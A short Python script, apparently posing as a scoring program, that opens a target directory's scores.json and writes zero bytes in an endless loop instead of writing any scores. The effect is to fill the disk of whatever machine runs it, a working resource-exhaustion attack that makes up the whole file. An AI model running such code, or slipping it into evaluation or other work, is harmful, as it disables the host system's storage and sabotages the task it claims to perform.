import json
import sys
from pathlib import Path

source, target = Path(sys.argv[1]), Path(sys.argv[2])
with (target / "scores.json").open("wb") as file:
    while True:
        file.write(bytes(1 << 20))
